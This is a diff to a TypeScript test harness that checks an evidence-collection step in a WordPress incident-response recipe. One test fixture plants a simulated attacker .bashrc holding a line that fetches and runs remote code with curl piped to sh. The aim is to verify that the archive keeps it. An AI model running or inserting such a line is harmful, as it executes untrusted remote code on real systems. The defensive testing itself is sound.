@@ -586,15 +586,10 @@ function administratorFolders(ns: WordPressNamespace) {
  */
 function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
   const {home, evidence: folder} = administratorFolders(ns);
-  const placeholder = /^E=\$HOME\/evidence-example\.XXXXXX$/m;
-  const block = ctx.block(EVIDENCE_FILES).value;
-  if (!placeholder.test(block)) ctx.fail(EVIDENCE_FILES, 'no E=$HOME/evidence-example.XXXXXX line to write the folder step 2 printed in');
   // Step 2's set-aside folder, with a start-up file of the attacker's: the copy must take it off with the rest.
   const setAside = path.join(ns.dir, 'set-aside-example.step02');
-  const setAsidePlaceholder = /^S=\/home\/set-aside-example\.XXXXXX$/m;
-  if (!setAsidePlaceholder.test(block))
-    ctx.fail(EVIDENCE_FILES, 'no S=/home/set-aside-example.XXXXXX line to copy the folder step 2 printed');
-  // Pasted as printed, the example names: the guard must stop the block before its first copy.
+  const block = ctx.block(EVIDENCE_FILES).value;
+  // Pasted as printed in a new terminal, the example names: the guard must stop the block before its first copy.
   // Its sleep 5 is for a reader to see the message before the terminal closes; here it would only add 5 s to each proof.
   const unfilled = ns.root(
     `rm -rf '${home}' && install -d -m 700 '${home}' && export HOME='${home}'\n${block.replaceAll('; sleep 5; exit 1;', '; exit 1;')}`,
@@ -605,10 +600,9 @@ function checkEvidenceFiles(ctx: RecipeContext, ns: WordPressNamespace) {
     'pasted with the example folder names (XXXXXX), the block stops at its guard with a message, before tar or find runs',
     () => `with E and S left as the examples, the block did not stop at its guard (status ${unfilled.status}):\n${unfilled.output}`,
   );
+  // Pasted into step 2's terminal, where E and S are set: the block must keep them (review r74a L2).
   const ran = ns.root(
-    `rm -rf '${home}' '${setAside}' && install -d -m 700 '${home}' '${folder}' '${setAside}' && echo 'curl -s http://203.0.113.9/x | sh' > '${setAside}/.bashrc' && export HOME='${home}'\n${block
-      .replace(placeholder, `E='${folder}'`)
-      .replace(setAsidePlaceholder, `S='${setAside}'`)}`,
+    `rm -rf '${home}' '${setAside}' && install -d -m 700 '${home}' '${folder}' '${setAside}' && echo 'curl -s http://203.0.113.9/x | sh' > '${setAside}/.bashrc' && export HOME='${home}' E='${folder}' S='${setAside}'\n${block}`,
   );
   const setAsideCopy = ns.root(`tar -xzOf '${folder}/set-aside.tar.gz' set-aside-example.step02/.bashrc 2>&1`).stdout;
   ctx.expect(
@@ -1354,6 +1348,15 @@ export const wordpressSecurityRecipe: Recipe = {
       what: 'leave the set-aside folder out of the evidence',
       ref: EVIDENCE_FILES,
       edit: replace(/^sudo tar -C "\$\(dirname "\$S"\)".*$/m, ''),
+      expect: /set-aside\.tar\.gz in .* did not hold the set-aside \.bashrc/,
+    },
+    {
+      what: "set E and S outright (review r74a L2): pasted into step 2's terminal, its folders are lost",
+      ref: EVIDENCE_FILES,
+      edit: (text: string) =>
+        text
+          .replace('E=${E:-$HOME/evidence-example.XXXXXX}', 'E=$HOME/evidence-example.XXXXXX')
+          .replace('S=${S:-/home/set-aside-example.XXXXXX}', 'S=/home/set-aside-example.XXXXXX'),
       expect: /set-aside\.tar\.gz in .* did not hold the set-aside \.bashrc/,
     },
     {
